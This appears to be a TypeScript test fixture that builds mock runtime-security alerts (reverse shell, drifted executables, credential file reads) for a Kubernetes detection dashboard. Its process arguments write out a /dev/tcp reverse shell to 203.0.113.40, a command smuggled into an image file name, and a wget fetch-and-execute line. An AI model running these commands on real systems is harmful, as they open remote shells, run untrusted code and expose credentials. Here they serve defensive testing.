import type { Alert, AlertState, Firing, Location, ProcessEvidence, Severity, StoredEvent } from "../../src/api/types";
import { BUILDER, PROD, STAGING } from "./estate";
import { below, containerId, digest, uuid } from "./random";

const MINUTE = 60_000;

function place(namespace: string, kind: string, name: string, cluster = PROD.name): Location {
  const pod = kind === "StatefulSet" ? `${name}-0` : `${name}-7f9c6d-x2${below(9)}kq`;
  return {
    cluster, node: `${cluster}-node-${below(2) === 0 ? "a" : "b"}`, namespace, workload: `${kind}/${name}`, pod, pod_uid: uuid(),
    container: name, container_id: containerId(),
    image: { name: `registry.example/${namespace}/${name}:1.8.2`, digest: digest(), index_digest: digest(), config_digest: digest() },
    identity: "complete",
  };
}

function process(at: number, name: string, exe: string, args: string[], user = "root", cwd: string | null = "/"): ProcessEvidence {
  return { exec_id: String(1e15 + below(1e9)), pid: 200 + below(30_000), name, exe, args, cwd, user, uid: user === "root" ? 0 : 1000, start: at };
}

interface Kind {
  detection: string;
  title: string;
  severity: Severity;
  tactics: Firing["tactics"];
  mitre: string[];
  parity: string[];
  remediation: string;
}

const SHELL: Kind = {
  detection: "SW-D-0001", title: "Shell's input and output joined to a remote host", severity: "high", tactics: ["execution"],
  mitre: ["T1059.004"], parity: ["K8S.NODE_ReverseShell"],
  remediation: "Treat the container as compromised: isolate the pod, keep its file system and logs, then replace it.\nFind how the command got in: a request to the service, a stolen credential, or an image that carries it.",
};
const DRIFT: Kind = {
  detection: "SW-D-0002", title: "Executable ran that is not in the image", severity: "medium", tactics: ["execution", "defense-evasion"],
  mitre: ["T1204", "T1036"], parity: ["K8S_DriftDetection"],
  remediation: "Compare the file with the build; if nobody knows it, isolate the pod. Make the root file system read-only.",
};
const CREDENTIALS: Kind = {
  detection: "SW-D-0003", title: "Credential file read by a command-line tool", severity: "medium", tactics: ["credential-access"],
  mitre: ["T1552.001"], parity: [], remediation: "Find who ran the tool; rotate the credential if it was not you.",
};

function firing(kind: Kind, time: number, where: Location, chain: ProcessEvidence[], rest: Partial<Firing>): Firing {
  return {
    ...kind, source: "syscall", time, where, process: chain, actor: null, object: null, why: [], output: "",
    action: { mode: "alert", result: "none" }, lost_nearby: 0, ...rest,
  };
}

export function reverseShell(time: number, where = place("shop", "Deployment", "web")): Firing {
  const chain = [
    process(time, "bash", "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.40/4444 0>&1"], "www-data", "/app"),
    process(time - 40, "sh", "/usr/bin/dash", ["sh", "-c", "convert upload.png -resize 200x200 \"x;bash -c 'bash -i >& /dev/tcp/203.0.113.40/4444 0>&1'\""], "www-data", "/app"),
    process(time - 86_400_000, "gunicorn", "/usr/local/bin/python3.12", ["gunicorn", "--workers", "4", "shop.wsgi:application"], "www-data", "/app"),
    process(time - 86_401_000, "tini", "/usr/bin/tini", ["tini", "--", "gunicorn", "--workers", "4", "shop.wsgi:application"]),
    process(time - 86_402_000, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", ["/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io"]),
  ];
  return firing(SHELL, time, where, chain, {
    output: `bash reads from and writes to 203.0.113.40:4444 in ${where.pod ?? where.cluster}`,
    object: { kind: "socket", remote: "203.0.113.40", port: 4444, protocol: "tcp" },
    why: [
      { expression: "evt.type in (connect, execve)", value: "connect" },
      { expression: "proc.name in (shell_binaries)", value: "bash" },
      { expression: "fd.type[0] = ipv4 and fd.type[1] = ipv4", value: "203.0.113.40:4444" },
    ],
  });
}

function drift(time: number, where: Location, path: string): Firing {
  return firing(DRIFT, time, where, [
    process(time, path.split("/").at(-1) ?? path, path, [path, "--threads", "4"]),
    process(time - 900, "sh", "/bin/busybox", ["sh", "-c", `wget -qO ${path} http://198.51.100.9/x; chmod +x ${path}; ${path}`]),
    process(time - 9e6, "node", "/usr/local/bin/node", ["node", "server.js"], "node", "/srv"),
  ], {
    output: `${path} was written after the container started and then executed`,
    object: { kind: "executable", path, drifted: true },
    why: [{ expression: "proc.is_exe_upper_layer = true", value: "true" }, { expression: "container.id != host", value: where.container_id }],
    lost_nearby: path.includes("kworker") ? 12 : 0,
  });
}

function read(time: number, where: Location, path: string, tool: string): Firing {
  return firing(CREDENTIALS, time, where, [
    process(time, tool, `/usr/bin/${tool}`, [tool, path]),
    process(time - 4_000, "bash", "/usr/bin/bash", ["bash"]),
  ], {
    output: `${tool} read ${path}`, object: { kind: "file", path },
    why: [{ expression: "evt.is_open_read = true", value: "true" }, { expression: "fd.name in (credential_files)", value: path }],
  });
}

export function asAlert(latest: Firing, first: number, count: number, state: AlertState = "active"): Alert {
  return { ...latest, id: uuid(), scope: latest.where.cluster === PROD.name ? PROD.scope : BUILDER.scope, state, first, last: latest.time, count, dismissal: null, previous: null, revision: count };
}

export function alerts(now: number): Alert[] {
  const host: Location = { cluster: BUILDER.name, node: "builder-07", namespace: null, workload: null, pod: null, pod_uid: null, container: null, container_id: null, image: null, identity: "complete" };
  const escape = { ...reverseShell(now - 9 * MINUTE, place("tools", "Deployment", "debug-shell")), severity: "critical" as const };
  const old = asAlert(reverseShell(now - 26 * 60 * MINUTE), now - 27 * 60 * MINUTE, 2, "dismissed");
  const again = asAlert(reverseShell(now - 2 * MINUTE), now - 14 * MINUTE, 7);
  const made = [
    { ...again, previous: old.id },
    asAlert(escape, now - 9 * MINUTE, 1),
    asAlert(drift(now - 21 * MINUTE, place("shop", "Deployment", "payments"), "/tmp/.cache/kworker"), now - 55 * MINUTE, 31, "in_progress"),
    asAlert(read(now - 47 * MINUTE, place("data", "StatefulSet", "queue"), "/root/.aws/credentials", "cat"), now - 47 * MINUTE, 1),
    asAlert(read(now - 66 * MINUTE, host, "/etc/shadow", "less"), now - 70 * MINUTE, 3),
    asAlert(drift(now - 3 * 60 * MINUTE, place("ingress", "Deployment", "gateway", STAGING.name), "/dev/shm/a"), now - 4 * 60 * MINUTE, 4),
    { ...asAlert({ ...read(now - 5 * 60 * MINUTE, { ...place("shop", "CronJob", "report"), identity: "pending" as const }, "/root/.docker/config.json", "head"), severity: "low" }, now - 6 * 60 * MINUTE, 2), where: { ...place("shop", "CronJob", "report"), identity: "pending" as const } },
    asAlert({ ...drift(now - 8 * 60 * MINUTE, place("tools", "Deployment", "debug-shell"), "/usr/local/bin/k9s"), severity: "info" }, now - 30 * 60 * MINUTE, 12, "resolved"),
    { ...old, dismissal: { reason: "test" as const, note: "Planned exercise of the response team, ticket SEC-1182.", by: "amber", at: now - 25 * 60 * MINUTE } },
  ];
  // Enough for a second page.
  const more = Array.from({ length: 58 }, (_, index) => {
    const at = now - (10 + index) * 60 * MINUTE;
    return asAlert(read(at, place("data", "StatefulSet", "queue"), `/home/app-${index}/.ssh/id_ed25519`, "cat"), at - MINUTE, 1 + below(5), index % 3 === 0 ? "active" : "resolved");
  });
  return [...made, ...more];
}

export function eventsOf(alert: Alert): StoredEvent[] {
  const shown = Math.min(alert.count, 60);
  return Array.from({ length: shown }, (_, index) => {
    const time = shown === 1 ? alert.last : Math.round(alert.last - ((alert.last - alert.first) * index) / (shown - 1));
    return { id: uuid(), scope: alert.scope, alert: alert.id, agent: uuid(), sequence: 9_000 - index, index: 0, time, firing: { ...alert, time } };
  });
}
